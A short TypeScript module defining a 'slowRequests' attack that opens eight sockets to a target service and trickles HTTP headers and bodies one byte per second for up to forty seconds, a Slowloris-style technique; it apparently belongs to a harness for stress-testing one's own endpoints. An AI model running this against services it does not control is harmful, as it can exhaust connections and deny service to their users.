import type { Attack } from './Attack.ts'

/** Heads and bodies that come a byte at a time. */
export const slowRequests: Attack = {
  isHolder: true,
  async run({ connect, isOver, pause, target: { chainId, projectId, url } }) {
    const { host } = new URL(url)
    const sockets = Array.from({ length: 8 }, (_, count) => {
      const socket = connect()
      const begin =
        count % 2 === 0
          ? `GET /livez HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `
          : `POST /v1?chainId=${chainId}&projectId=${projectId} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`
      socket.once('connect', () => socket.write(begin))
      return socket
    })
    for (let second = 0; second < 40 && !isOver(); second++) {
      for (const socket of sockets) if (socket.writable) socket.write('x')
      await pause(1000)
    }
    for (const socket of sockets) socket.destroy()
  },
}
